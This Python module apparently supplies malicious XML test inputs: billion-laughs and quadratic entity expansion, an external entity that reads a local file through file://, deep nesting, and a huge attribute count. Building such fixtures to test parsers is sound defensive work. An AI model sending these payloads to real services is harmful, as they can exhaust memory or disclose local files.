"""XML that was made to do harm."""

from __future__ import annotations


def laughs(encoding: str = "utf-8") -> bytes:
    """Return entities of entities of entities: a kilobyte that stands for three gigabytes."""
    lines = ['<!ENTITY l0 "lol">']
    lines += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    declared = "".join(lines)
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [{declared}]><a b="&l9;">&l9;</a>'
    )
    return text.encode(encoding)


def quadratic() -> bytes:
    """Return one long entity that is used many times."""
    used = "&a;" * 50_000
    return f'<!DOCTYPE r [<!ENTITY a "{"a" * 50_000}">]><r>{used}</r>'.encode()


def outside(path: str) -> bytes:
    """Return an entity that is a file of this computer."""
    return f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{path}">]><a>&x;</a>'.encode()


def deep(levels: int = 100_000) -> bytes:
    """Return elements in elements."""
    return b"<a>" * levels + b"x" + b"</a>" * levels


def attributes(count: int = 300_000) -> bytes:
    """Return one element with a great many attributes."""
    inside = " ".join(f'a{n}=""' for n in range(count))
    return f"<a {inside}>x</a>".encode()
